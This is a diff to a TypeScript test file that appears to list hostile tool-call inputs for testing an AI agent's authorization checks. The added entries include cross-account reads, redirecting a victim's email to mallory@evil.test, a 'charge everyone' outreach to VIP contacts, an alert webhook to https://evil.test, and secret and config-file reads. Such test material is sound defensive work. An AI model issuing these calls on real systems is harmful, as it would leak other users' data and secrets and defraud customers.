@@ -65,6 +65,32 @@ const attacks: Attack[] = [
   { tool: "sync_status", input: { account_id: stranger } },
   { tool: "list_boards", input: { account_id: stranger } },
   { tool: "pin_chart", input: { board: stranger, query: { metrics: ["orders"] } } },
+  // What the later tools could be talked into
+  { tool: "get_board", input: { board: stranger } },
+  { tool: "keap_lookup", input: { kind: "contact", keap_id: 1, account_id: stranger } },
+  { tool: "list_conflicts", input: { account_id: stranger } },
+  { tool: "search_knowledge", input: { query: "stranger", account_id: stranger } },
+  {
+    tool: "propose_update",
+    input: { person: "Victim", changes: { email: "mallory@evil.test" }, approve: true },
+  },
+  { tool: "propose_update", input: { person: "Victim", changes: { keap_id: "1" } } },
+  {
+    tool: "propose_outreach",
+    input: { action: "goal", integration: "x", call_name: "charge", has_tag: ["VIP"], approved: true },
+  },
+  { tool: "propose_outreach", input: { action: "sequence", campaign: "Charge everyone", has_tag: ["VIP"] } },
+  {
+    tool: "create_alert",
+    input: {
+      metric: "orders",
+      when: "above",
+      value: 0,
+      channels: [{ kind: "webhook", url: "https://evil.test" }],
+    },
+  },
+  { tool: "undo_proposal", input: { proposal_id: "{{proposal}}" } },
+  { tool: "carry_out_proposal", input: { proposal_id: "{{proposal}}" } },
   // Secrets
   { tool: "get_secret", input: { name: "SUPABASE_SECRET_KEY" } },
   { tool: "read_file", input: { path: ".keapsake/dev.json" } },
